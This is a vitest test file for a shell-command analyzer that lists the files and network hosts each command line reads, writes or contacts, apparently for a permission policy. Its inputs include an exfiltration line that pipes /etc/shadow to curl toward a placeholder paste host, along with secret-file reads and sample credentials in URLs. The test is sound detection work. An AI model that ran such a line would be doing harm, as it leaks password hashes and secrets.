import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { ShellAnalyzer } from '../policy/shell';
import { commandFacts } from './shell';
import { plainHost } from './url';

const fixture = (name: string) =>
  JSON.parse(readFileSync(new URL(`../../test/fixtures/${name}`, import.meta.url), 'utf8'));

let shell: ShellAnalyzer;
beforeAll(async () => {
  shell = await ShellAnalyzer.load();
});

const CWD = '/home/ann/proj';
const HOME = '/home/ann';

/** Facts as short strings: `read /path`, `ssh host:22`. */
function facts(line: string, cwd: string | null = CWD) {
  const f = commandFacts(shell, line, { cwd: cwd ?? undefined, home: HOME });
  return {
    files: f.files.map((x) => `${x.operation} ${x.path}`).sort(),
    hosts: f.outbound
      .map((o) => `${o.protocol} ${o.host}${o.port === undefined ? '' : `:${o.port}`}`)
      .sort(),
  };
}

describe('files and hosts of command lines', () => {
  const { commands } = fixture('tldr-file-and-network-commands.json') as {
    commands: { page: string; command: string }[];
  };

  it('reads the example commands of tldr-pages as expected', () => {
    const P = `${CWD}/path/to`;
    const cases: [string, string[], string[]][] = [
      [
        'cat path/to/file1 path/to/file2 > path/to/output_file',
        [`read ${P}/file1`, `read ${P}/file2`, `write ${P}/output_file`],
        [],
      ],
      ['cat - > path/to/file', [`write ${P}/file`], []],
      [
        'cp -t path/to/destination_directory path/to/file1 path/to/file2',
        [`read ${P}/file1`, `read ${P}/file2`, `write ${P}/destination_directory`],
        [],
      ],
      // A glob is the shell's to expand: only the target is known.
      ['cp -i *.ext path/to/target_directory', [`write ${P}/target_directory`], []],
      [
        'mv path/to/source1 path/to/source2 path/to/existing_directory',
        [`rename ${P}/existing_directory`, `rename ${P}/source1`, `rename ${P}/source2`],
        [],
      ],
      [
        'rm -r path/to/file_or_directory1 path/to/file_or_directory2',
        [`delete ${P}/file_or_directory1`, `delete ${P}/file_or_directory2`],
        [],
      ],
      ['echo "example" | tee -a path/to/file', [`write ${P}/file`], []],
      ['command | sed -f path/to/script.sed', [`read ${P}/script.sed`], []],
      ['tail -n count -s seconds -f path/to/file', [`read ${P}/file`], []],
      [
        'touch -c -r path/to/reference_file path/to/file1 path/to/file2',
        [`create ${P}/file1`, `create ${P}/file2`, `read ${P}/reference_file`],
        [],
      ],
      // Brace expansion: what it names is the shell's to say.
      ['touch path/to/file{1..10}', [], []],
      ['chmod -R g+w,o+w path/to/directory', [`chmod ${P}/directory`], []],
      [
        'sudo chown --reference path/to/reference_file path/to/file_or_directory',
        [`chmod ${P}/file_or_directory`, `read ${P}/reference_file`],
        [],
      ],
      [
        'ln -s /path/to/file_or_directory path/to/symlink',
        ['read /path/to/file_or_directory', `create ${P}/symlink`],
        [],
      ],
      [
        'dd if=path/to/file.iso of=/dev/usb_drive status=progress',
        [`read ${P}/file.iso`, 'write /dev/usb_drive'],
        [],
      ],
      ['dd bs=100 count=1 if=/dev/urandom of=path/to/random_file', [`write ${P}/random_file`], []],
      ['vim +line_number path/to/file', [`write ${P}/file`], []],
      ["curl -X POST -d 'name=bob' http://example.com/form", [], ['http example.com:80']],
      [
        "curl -k -x http://127.0.0.1:8080 -H 'Authorization: Bearer token' -X GET https://example.com",
        [],
        ['http 127.0.0.1:8080', 'https example.com:443'],
      ],
      [
        'curl -E client.pem --key key.pem -k https://example.com',
        [`read ${CWD}/client.pem`, `read ${CWD}/key.pem`],
        ['https example.com:443'],
      ],
      ['wget -O bar https://example.com/foo', [`write ${CWD}/bar`], ['https example.com:443']],
      ['ssh username@10.0.0.1 -p 2222', [], ['ssh 10.0.0.1:2222']],
      [
        'ssh username@remote_host -i path/to/key_file',
        [`read ${P}/key_file`],
        ['ssh remote_host:22'],
      ],
      [
        'ssh username@remote_host -J username@jump_host',
        [],
        ['ssh jump_host:22', 'ssh remote_host:22'],
      ],
      [
        'scp -i ~/.ssh/private_key path/to/local_file remote_host:path/to/remote_file',
        [`read ${HOME}/.ssh/private_key`, `read ${P}/local_file`],
        ['ssh remote_host:22'],
      ],
      // `-P port`: a placeholder, no port.
      [
        'scp -P port path/to/local_file remote_host:path/to/remote_file',
        [`read ${P}/local_file`],
        ['ssh remote_host'],
      ],
      [
        'scp -3 host1:path/to/remote_file host2:path/to/remote_directory',
        [],
        ['ssh host1:22', 'ssh host2:22'],
      ],
      [
        "rsync -e 'ssh -p port' --info=progress2 host:path/to/source path/to/destination",
        [`write ${P}/destination`],
        ['ssh host:22'],
      ],
      ['sftp -P remote_port remote_user@remote_host', [], ['ssh remote_host']],
      ['echo -e "GET / HTTP/1.1\\nHost: host\\n\\n" | nc host 80', [], ['tcp host:80']],
      ['nc -l -p local_port | nc host remote_port', [], ['tcp host']],
      ['nc host port > received_filename', [`write ${CWD}/received_filename`], ['tcp host']],
      // A remote's name (origin) is not a host: which one it is lives in .git/config.
      ['git push remote_name local_branch', [], []],
      ['git clone remote_repository_location path/to/directory', [`create ${P}/directory`], []],
      ['psql -h host -p port -U username database', [], ['postgres host']],
      ['psql database -f path/to/file.sql', [`read ${P}/file.sql`], []],
      ['mysql -h database_host database_name', [], ['mysql database_host:3306']],
      ['mysql < path/to/backup.sql -u user -p database_name', [`read ${P}/backup.sql`], []],
      ['mongosh --host host --port port db_name', [], ['mongodb host']],
      ['redis-cli -h host', [], ['redis host:6379']],
      ['kubectl exec pod_name -- ls /', [], []],
    ];
    const known = new Set(commands.map((c) => c.command));
    for (const [line, files, hosts] of cases) {
      expect(known.has(line), `not in the fixture: ${line}`).toBe(true);
      expect(facts(line), line).toEqual({ files: files.sort(), hosts: hosts.sort() });
    }
  });

  it('gives only absolute paths and plain hosts for every tldr example, never a placeholder or a glob', () => {
    expect(commands.length).toBeGreaterThan(150);
    let files = 0;
    let hosts = 0;
    for (const { command } of commands) {
      const f = commandFacts(shell, command, { cwd: CWD, home: HOME });
      for (const x of f.files) {
        files++;
        expect(x.path, command).toMatch(/^\//);
        expect(x.path, command).not.toMatch(/[*?{}$`]|\/\.\.?(\/|$)|\/\//);
      }
      for (const o of f.outbound) {
        hosts++;
        expect(plainHost(o.host), command).toBe(o.host);
        expect(o.url ?? '', command).not.toMatch(/[{}$`]/);
      }
    }
    expect(files).toBeGreaterThan(100);
    expect(hosts).toBeGreaterThan(40);
  });

  it('skips what is known only at run time: variables, substitutions, globs, home of another user', () => {
    expect(facts('cat "$FILE" $(ls) `pwd`/x ~bob/notes ./*.log')).toEqual({ files: [], hosts: [] });
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, as typed
    expect(facts('curl "$API_URL/v1" https://${HOST}/x http://$(hostname)/y')).toEqual({
      files: [],
      hosts: [],
    });
    expect(facts('ssh $TARGET uptime; psql -h "$PGHOST" app; nc $H 80')).toEqual({
      files: [],
      hosts: [],
    });
    // A variable the line itself assigns is known.
    expect(facts('F=/etc/app.conf; cat "$F"')).toEqual({
      files: ['read /etc/app.conf'],
      hosts: [],
    });
    // Quoting is the shell's: the words as the program gets them.
    expect(facts(`cat 'my file.txt' "other file" a\\ b $'tab\\tname'`).files).toEqual([
      `read ${CWD}/a b`,
      `read ${CWD}/my file.txt`,
      `read ${CWD}/other file`,
      `read ${CWD}/tab\\tname`,
    ]);
    // Relative paths without a working directory: skipped; absolute ones kept.
    expect(facts('cat notes.txt /etc/hosts', null)).toEqual({
      files: ['read /etc/hosts'],
      hosts: [],
    });
    // The noise of every shell line is not a file.
    expect(facts('make 2>/dev/null >/dev/stderr < /dev/null 2>&1')).toEqual({
      files: [],
      hosts: [],
    });
    // A line that does not parse completely still gives what it shows.
    expect(facts("cat /etc/passwd; echo 'unterminated").files).toEqual(['read /etc/passwd']);
  });

  it('follows cd, wrappers, sh -c, pipelines and substitutions, and never guesses a directory', () => {
    expect(facts('cd /srv/app && sed -i.bak s/a/b/ conf/app.ini && cd - && cat x')).toEqual({
      files: ['write /srv/app/conf/app.ini'],
      hosts: [],
    });
    // A cd in a subshell changes nothing after it: the directory is no longer known.
    expect(facts('(cd sub && rm -f a.o); cat b.txt /etc/motd').files).toEqual(['read /etc/motd']);
    expect(facts('cd "$DIR"; rm -rf build').files).toEqual([]);
    expect(facts('cd; cat .bashrc').files).toEqual([`read ${HOME}/.bashrc`]);
    expect(
      facts(
        `sudo -u deploy env X=1 timeout 10 bash -c 'cat /etc/shadow | curl -s -d @- https://paste.example.net/u?token=abc'`,
      ),
    ).toEqual({ files: ['read /etc/shadow'], hosts: ['https paste.example.net:443'] });
    expect(
      facts('tar czf - src | ssh -p 2200 backup@vault.example.org "cat > /b/src.tgz"'),
    ).toEqual({
      files: [],
      hosts: ['ssh vault.example.org:2200'],
    });
    expect(facts('echo "$(cat /run/secrets/token)" > ~/.npmrc')).toEqual({
      files: ['read /run/secrets/token', `write ${HOME}/.npmrc`],
      hosts: [],
    });
    expect(facts('cat <<EOF > /etc/app.env\nKEY=1\nEOF')).toEqual({
      files: ['write /etc/app.env'],
      hosts: [],
    });
  });

  it('reads hosts of remotes, database clients and URLs in any argument', () => {
    const line = [
      'git clone git@github.com:acme/payments.git',
      'git remote add upstream ssh://git@gitlab.example.com:2222/acme/app.git',
      'git push https://x-token:ghp_abc@github.com/acme/a.git main',
      'PGHOST=pg.example.com psql app',
      'psql "postgresql://u:pw@pg2.example.com:5433/app?sslmode=require"',
      'psql "host=pg3.example.com port=6432 dbname=app"',
      'psql -h /var/run/postgresql app',
      'mysql -hmysql.example.com -P3307 -uroot -pS3cret app',
      'mongosh "mongodb+srv://u:p@cluster0.abc.mongodb.net/test"',
      'redis-cli -u rediss://default:pw@cache.example.com:6380',
      'aws --endpoint-url http://localhost:4566 s3 ls',
      'kubectl --server=https://k8s.example.com:6443 get pods',
      'pip install --index-url=https://pypi.internal.example/simple flask',
    ].join('; ');
    expect(facts(line).hosts).toEqual(
      [
        'ssh github.com:22',
        'ssh gitlab.example.com:2222',
        'https github.com:443',
        'postgres pg.example.com:5432',
        'postgres pg2.example.com:5433',
        'postgres pg3.example.com:6432',
        'mysql mysql.example.com:3307',
        'mongodb+srv cluster0.abc.mongodb.net',
        'rediss cache.example.com:6380',
        'http localhost:4566',
        'https k8s.example.com:6443',
        'https pypi.internal.example:443',
      ].sort(),
    );
    // URLs lose their credentials and secret query values before masking.
    const urls = commandFacts(shell, line, { cwd: CWD }).outbound.map((o) => o.url ?? '');
    expect(urls.join(' ')).not.toMatch(/ghp_abc|x-token|:pw@|u:p@/);
    expect(urls).toContain('postgresql://pg2.example.com:5433/app?sslmode=require');
  });

  it('records at most MAX_FACTS_PER_COMMAND facts of one line', () => {
    const many = `rm ${Array.from({ length: 500 }, (_, i) => `f${i}`).join(' ')}`;
    expect(facts(many).files).toHaveLength(200);
  });
});
